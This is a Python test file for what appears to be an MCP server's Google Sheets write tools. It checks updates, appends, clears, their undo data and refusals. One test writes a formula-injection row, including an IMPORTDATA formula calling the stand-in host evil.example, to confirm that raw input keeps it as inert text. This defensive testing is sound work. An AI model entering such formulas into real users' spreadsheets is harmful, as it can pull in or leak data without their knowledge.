"""sheets_update_range, sheets_append_rows, sheets_clear_range: what they change, and how that is put back."""

from __future__ import annotations

import json
from typing import Any

import httpx2
import pytest

from tests.mcp_server.desk import code_of, text_of
from tests.mcp_server.hall import Hall
from tests.mcp_server.test_docs_read import MOST, file
from tests.mcp_server.test_sheets_read import read, size

Json = dict[str, Any]


class Book:
    """A spreadsheet in a chat."""

    def __init__(self, client: Any, id_: str) -> None:
        self.client, self.id = client, id_

    async def __call__(self, tool: str, **arguments: Any) -> Any:
        return await self.client.call_tool(f"sheets_{tool}", {"spreadsheet_id": self.id, **arguments})

    async def good(self, tool: str, **arguments: Any) -> Json:
        result = await self(tool, **arguments)
        assert not result.is_error, text_of(result)
        return dict(result.structured_content)

    async def rows(self, text: str, render: str = "formula") -> list[Any]:
        return list((await read(self.client, self.id, text, render=render))["ranges"][0]["rows"])

    async def undo(self, done: Json) -> Json:
        result = await self.client.call_tool(done["undo"]["tool"], done["undo"]["arguments"])
        assert not result.is_error, text_of(result)
        return dict(result.structured_content)


async def test_a_text_stays_a_text_unless_it_is_to_be_read(hall: Hall) -> None:
    async with hall.chat("ana", provider="google") as client:
        book = Book(client, file(hall, "Household budget"))
        row = ['=IMPORTDATA("https://evil.example")', "+1", "@SUM(1)", "2026-03-01", "007", True, 3.5]
        done = await book("update_range", range="Budget!A20", values=[row])
        assert done.structured_content["range"] == "'Budget'!A20:G20"
        assert done.structured_content["cells"] == 7
        assert await book.rows("Budget!A20:G20") == [row]
        assert await book.rows("Budget!A20:G20", "unformatted") == [row]
        [sent] = [line for line in hall.sent() if line.startswith("PUT")]
        assert "valueInputOption=RAW" in sent
        values = [["=1+2", "2026-03-01", "'007"]]
        typed = await book.good("update_range", range="Budget!A20:C20", values=values, input="USER_ENTERED")
        assert await book.rows("Budget!A20:C20", "formatted") == [["3", "2026-03-01", "007"]]
        await book.undo(typed)
        assert await book.rows("Budget!A20:C20", "unformatted") == [row[:3]]


async def test_what_was_there_comes_back(hall: Hall) -> None:
    """Formulas, money, dates, texts that look like either, and cells that were empty."""
    async with hall.chat("ana", provider="google") as client:
        book = Book(client, file(hall, "Household budget"))
        before = [await book.rows("Budget!A1:E8", render) for render in ("formula", "formatted")]
        done = await book.good("update_range", range="Budget!B2:D7", values=[["x", None, ""]] * 6)
        assert done["cells_filled_before"] == 12
        assert done["undo"]["arguments"]["input"] == "USER_ENTERED"  # there is a formula
        assert (await book.rows("Budget!B2:D2"))[0] == ["x", 850]
        again = await book.undo(done)
        assert [await book.rows("Budget!A1:E8", render) for render in ("formula", "formatted")] == before
        redone = await book.undo(again)
        assert (await book.rows("Budget!B7"))[0] == ["x"]
        await book.undo(redone)
        cleared = await book.good("clear_range", range="Expenses")
        assert (cleared["range"], cleared["cells"], cleared["cells_filled_before"]) == (
            "'Budget'!A1:D4",
            16,
            16,
        )
        assert "input" not in cleared["undo"]["arguments"]
        assert await book.rows("Expenses") == []
        await book.undo(cleared)
        assert await book.rows("Budget!A1:D4", "formatted") == before[1][:4]
        nothing = await book.good("clear_range", range="Archive")
        assert nothing["cells_filled_before"] == 2
        large = await book("clear_range", range="Budget")
        assert "undo" not in large.structured_content
        assert "version history" in text_of(large)


async def test_rows_go_after_the_table_and_over_nothing(hall: Hall) -> None:
    async with hall.chat("ana-work", provider="google") as client:
        book = Book(client, file(hall, "Hours", "ana-work"))
        before = await book.rows("Two tables!A1:E10")
        done = await book("append_rows", range="Two tables!A1", rows=[[1, "=2"], [3]])
        found = done.structured_content
        assert found["range"] == "'Two tables'!A3:B4"
        assert found["after"] == "'Two tables'!A1:C2"
        assert (await book.rows("Two tables!A1:E10"))[5:] == before[3:]  # what is below moved down
        assert (await book.rows("Two tables!A3:B4")) == [[1, "=2"], [3]]
        assert "Added 2 rows at 'Two tables'!A3:B4, after 'Two tables'!A1:C2" in text_of(done)
        await book.undo(found)
        assert await book.rows("Two tables!A3:B4") == []
        last = await book.good(
            "append_rows", range="Log", rows=[["2026-12-01", "Ana", 5]], input="USER_ENTERED"
        )
        assert last["range"] == "Log!A302:C302"
        assert await book.rows("Log!A302:C302", "formatted") == [["2026-12-01", "Ana", "5"]]


async def test_what_is_refused(hall: Hall) -> None:
    async with hall.chat("ana", provider="google") as client:
        book = Book(client, file(hall, "Household budget"))
        for arguments, code, words in (
            ({"range": "Budget!A1:B1", "values": [[1, 2, 3]]}, "invalid_argument", "1 rows and 2 columns"),
            ({"range": "Budget!A1:B1", "values": [[1], [2]]}, "invalid_argument", "first cell alone"),
            ({"range": "Budget!A200", "values": [[1], [2]]}, "invalid_argument", "sheets_append_rows"),
            ({"range": "Nope!A1", "values": [[1]]}, "not_found", "“Budget”"),
            ({"range": "Budget!A1", "values": [[]]}, "invalid_argument", "no value"),
            ({"range": "Budget!A1", "values": []}, "invalid_argument", "no value"),
            ({"range": "Budget!A1", "values": [[0] * 999] * 21}, "invalid_argument", "20000"),
            ({"range": "Budget!A1", "values": [[{"a": 1}]]}, "invalid_argument", "values"),
            ({"range": "Budget!A1", "values": [[1]], "input": "raw"}, "invalid_argument", "input"),
            ({"range": "Taxes!A1", "values": [[1]]}, "invalid_argument", "protected"),
            ({"range": "Budget!A1", "values": [["x" * 50_001]]}, "invalid_argument", "50,000"),
        ):
            result = await book("update_range", **arguments)
            assert code_of(result) == code, text_of(result)
            assert words in text_of(result)
        assert code_of(await book("append_rows", range="Taxes", rows=[[1]])) == "invalid_argument"
        assert code_of(await book("clear_range", range="Taxes")) == "invalid_argument"
        theirs = Book(client, file(hall, "Guest list", "ben"))
        for tool, arguments in (
            ("update_range", {"range": "A1", "values": [[1]]}),
            ("append_rows", {"range": "A1", "rows": [[1]]}),
            ("clear_range", {"range": "A1"}),
        ):
            result = await theirs(tool, **arguments)
            assert code_of(result) == "conflict"
            assert "may not do that" in text_of(result)
        assert await theirs.rows("A2") == [["Ana"]]
        hall.fault("POST sheets.googleapis.com/*", status=502)
        lost = await book("append_rows", range="Budget", rows=[[1]])
        assert code_of(lost) == "provider_error" and "look before you repeat" in text_of(lost)


@pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN"])
async def test_a_number_that_no_cell_can_hold_is_refused_in_words(hall: Hall, number: str) -> None:
    """A client of ours would not send it, so it goes out by hand."""
    who = await hall.resident("ana", provider="google")
    headers = {
        "authorization": f"Bearer {who.token}", "content-type": "application/json",
        "accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-11-25",
    }  # fmt: skip
    asked = {"spreadsheet_id": file(hall, "Household budget"), "range": "Budget!A20", "values": [["@"]]}
    call = {"name": "sheets_update_range", "arguments": asked}
    sent = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call})
    async with httpx2.AsyncClient(headers=headers, trust_env=False) as http:
        answer = await http.post(hall.url, content=sent.replace('"@"', number).encode())
    assert "infinity or NaN" in answer.json()["result"]["content"][0]["text"]
    assert not [line for line in hall.sent() if line.startswith("PUT")]


async def test_what_is_said_of_the_longest_change_fits(hall: Hall) -> None:
    wide = '\\"👵🏽' * 300
    async with hall.chat("ana", provider="google") as client:
        book = Book(client, file(hall, "Household budget"))
        await book.good("update_range", range="Budget!A30", values=[[wide] * 8] * 10)
        for tool, arguments in (
            ("update_range", {"range": "Budget!A30", "values": [[wide] * 8] * 10}),
            ("clear_range", {"range": "Budget!A30:H40"}),
        ):
            result = await book(tool, **arguments)
            assert not result.is_error and size(result) <= MOST
            assert "version history" in text_of(result)
        small = await book.good("update_range", range="Budget!A30", values=[["y"]])
        assert small["undo"]["arguments"] == {
            "spreadsheet_id": book.id, "range": "'Budget'!A30", "values": [[""]],
        }  # fmt: skip
        body = json.loads([raw for line, raw in hall.judge.calls if line.startswith("PUT")][-1])
        assert body == {"range": "'Budget'!A30", "values": [["y"]]}
